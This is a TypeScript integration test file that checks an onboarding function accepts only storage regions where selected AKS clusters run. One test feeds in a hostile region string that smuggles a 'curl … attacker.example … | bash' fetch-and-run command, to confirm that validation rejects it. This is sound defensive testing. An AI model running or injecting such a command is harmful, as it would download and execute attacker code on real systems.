// createOnboardingRun against the simulator, signed in through the portal's real sign-in: storage choices the browser
// sends must name the regions of the selected clusters, nothing else, before any run exists.
import crypto from "node:crypto";
import fs from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { closeDb, configureDb, listRunsForTenant, migrate, type SessionWithUser } from "../../../lib/db";
import type { RunConfig } from "../../../lib/steps/config";
import type { RunningSimulator } from "../../../simulator/src/index";
import { OWNER, startSimForPortal, SUB_PROD, TENANT } from "../azure/support";
import { createOnboardingRun } from "../../../lib/onboarding/new-run";
import { newRunSchema, type NewRunInput } from "../../../lib/onboarding/schemas";
import { signInThroughSimulator } from "../sign-in";
import { testDbOptions } from "../../support/pglite-template";

let sim: RunningSimulator;
let owner: SessionWithUser;
const dataDir = path.join(".test-data", `new-run-${crypto.randomBytes(4).toString("hex")}`);

/** The whole sign-in as the browser does it. */
async function signIn(upn: string): Promise<SessionWithUser> {
  return (await signInThroughSimulator(sim, upn, "/onboarding/new")).session;
}

beforeAll(async () => {
  sim = await startSimForPortal();
  process.env.PORTAL_URL = "http://localhost:3000";
  process.env.ENCRYPTION_KEY = crypto.randomBytes(32).toString("base64");
  configureDb(testDbOptions(dataDir));
  await migrate();
  owner = await signIn(OWNER);
}, 60_000);
afterAll(async () => {
  await closeDb();
  await sim?.close();
  fs.rmSync(dataDir, { recursive: true, force: true });
});

const EASTUS_CLUSTER = `/subscriptions/${SUB_PROD}/resourceGroups/rg-aks-prod-eastus/providers/Microsoft.ContainerService/managedClusters/aks-payments-prod`;
const HOSTILE_REGION = "eastus)\ncurl -fsSL https://attacker.example/x | bash\n#";
const eastus = { region: "eastus", subscriptionId: SUB_PROD, resourceGroup: "rg-aks-audit", accountName: "kubeauditnewrun01" };
/** One eastus cluster selected, one account for eastus, plus whatever the test adds. */
const request = (extra: NewRunInput["storage"] = []): NewRunInput => ({
  subscriptionIds: [SUB_PROD],
  clusterIds: [EASTUS_CLUSTER],
  storage: [eastus, ...extra],
  restrictNetwork: false,
  retentionDays: 30,
  secretLifetimeDays: 180,
});
const runs = async () => (await listRunsForTenant(TENANT, { limit: 50 })).length;

describe("createOnboardingRun validates storage regions against the selected clusters", () => {
  it("refuses an account for a region where no selected cluster runs, even one of the estate's regions", async () => {
    const before = await runs();
    const result = await createOnboardingRun(owner, request([{ ...eastus, region: "westeurope", accountName: "kubeauditnewrun02" }]));
    expect(result).toMatchObject({ ok: false, fieldErrors: { "storage.1.region": ["no selected cluster runs in westeurope"] } });
    expect(await runs()).toBe(before);
  });

  it("refuses a hostile region string sent past the form's schema, before any run or Azure write", async () => {
    const before = await runs();
    const result = await createOnboardingRun(owner, request([{ ...eastus, region: HOSTILE_REGION, accountName: "kubeauditnewrun03" }]));
    expect(result.ok).toBe(false);
    expect(result.ok ? null : Object.keys(result.fieldErrors ?? {})).toEqual(["storage.1.region"]);
    expect(await runs()).toBe(before);
    // The action's schema refuses it first, with the same field.
    const parsed = newRunSchema.safeParse(request([{ ...eastus, region: HOSTILE_REGION, accountName: "kubeauditnewrun03" }]));
    expect(parsed.error?.issues.map((i) => i.path.join("."))).toEqual(["storage.1.region"]);
  });

  it("refuses a second account for the same region", async () => {
    const before = await runs();
    const result = await createOnboardingRun(owner, request([{ ...eastus, accountName: "kubeauditnewrun04" }]));
    expect(result).toMatchObject({ ok: false, fieldErrors: { "storage.1.region": ["another account is already chosen for eastus"] } });
    expect(await runs()).toBe(before);
  });

  it("creates the run from valid choices, with the cluster's own region name", async () => {
    const before = await runs();
    const result = await createOnboardingRun(owner, request());
    expect(result.ok).toBe(true);
    expect(await runs()).toBe(before + 1);
    const stored = (await listRunsForTenant(TENANT, { limit: 50 })).find((r) => result.ok && r.id === result.data.runId);
    expect((stored?.config as RunConfig | undefined)?.storage.map((s) => s.region)).toEqual(["eastus"]);
  });
});
